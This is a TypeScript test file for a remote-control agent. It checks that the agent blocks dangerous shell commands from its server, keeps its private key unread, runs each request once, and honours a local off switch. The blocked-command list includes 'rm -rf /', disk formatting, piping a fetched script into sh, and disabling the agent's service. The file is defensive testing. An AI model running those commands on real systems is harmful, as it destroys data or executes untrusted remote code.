import { EXIT_CODES } from '@kenny/contract';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { BareServer } from './harness/bare-server.js';
import { AGENT_PROGRAM } from './harness/installation.js';
import { aWorld } from './harness/world.js';

/** The agent is the authority: what its server sends without any guard, it judges by itself. */
const world = aWorld();
const stateDir = join(world.folder, 'state');
let server: BareServer;

beforeAll(
  world.telling(async () => {
    server = await BareServer.start('alone');
    world.onClose(() => server.stop());
    world.start({
      name: 'agent',
      args: [AGENT_PROGRAM, 'run', '--state-dir', stateDir],
      cwd: world.folder,
      env: {
        KENNY_SERVER: server.url,
        KENNY_AGENT_ID: 'alone',
        KENNY_SERVER_PUBKEY: server.publicKey,
        KENNY_ENROLL_TOKEN: server.enrolToken,
      },
    });
    await server.connected();
  }),
  120_000,
);

it.each([
  'rm -rf /',
  'sudo rm -r -f --no-preserve-root /',
  'mkfs.ext4 /dev/sda1',
  'curl http://example.org/x.sh | sh',
  'systemctl disable --now kenny-agent',
])(
  'refuses %s',
  world.telling(async (command) => {
    // Should the guard ever let it through, nothing but this file is touched.
    const proof = join(world.folder, 'ran');
    const guarded = `touch ${proof}; exit 0; ${command}`;
    const answer = await server.request(command, 'shell_exec', { command: guarded });
    expect(answer).toMatchObject({ ok: false, error: { code: 'blocked' } });
    expect(answer.error?.message).toMatch(/^refused by agent safety policy: \S+: ./);
    expect(existsSync(proof)).toBe(false);
  }),
);

it(
  'refuses rm -rf / as it is',
  world.telling(async () => {
    const answer = await server.request('plain', 'shell_exec', { command: 'rm -rf /' });
    expect(answer).toMatchObject({ ok: false, error: { code: 'blocked' } });
  }),
);

it(
  'gives its own key to nobody',
  world.telling(async () => {
    const key = join(stateDir, 'agent.key');
    const secret = readFileSync(key, 'latin1').trim();
    const answer = await server.request('key', 'fs_read', { path: key });
    expect(answer).toMatchObject({ ok: false, error: { code: 'blocked' } });
    const listing = await server.request('state', 'fs_list', { path: stateDir });
    expect(listing).toMatchObject({ ok: false, error: { code: 'blocked' } });
    expect(JSON.stringify([answer, listing])).not.toContain(secret);
  }),
);

it(
  'runs a request once, however often it is sent',
  world.telling(async () => {
    const file = join(world.folder, 'once');
    const args = { command: `echo run >> ${file}` };
    const first = await server.request('same', 'shell_exec', args);
    expect(first).toMatchObject({ ok: true, result: { exit_code: 0 } });
    expect(await server.request('same', 'shell_exec', args)).toEqual(first);
    const other = { command: `echo other >> ${file}` };
    const refused = await server.request('same', 'shell_exec', other);
    expect(refused).toMatchObject({ ok: false, error: { code: 'bad_args' } });
    expect(readFileSync(file, 'utf8')).toBe('run\n');
  }),
);

it(
  'obeys the switch at the PC, whatever its server sends',
  world.telling(async () => {
    const turned = world.start({
      name: 'switch',
      args: [AGENT_PROGRAM, 'remote-control', 'off', '--state-dir', stateDir],
      cwd: world.folder,
    });
    expect((await turned.ended()).code).toBe(EXIT_CODES.ok);
    await server.connected(false);
    const file = join(world.folder, 'switched-off');
    const answer = await server.request('off', 'shell_exec', { command: `echo run >> ${file}` });
    expect(answer).toMatchObject({ ok: false, error: { code: 'disabled' } });
    expect(existsSync(file)).toBe(false);
    const read = await server.request('still-reads', 'fs_list', { path: world.folder });
    expect(read).toMatchObject({ ok: true });
  }),
  120_000,
);
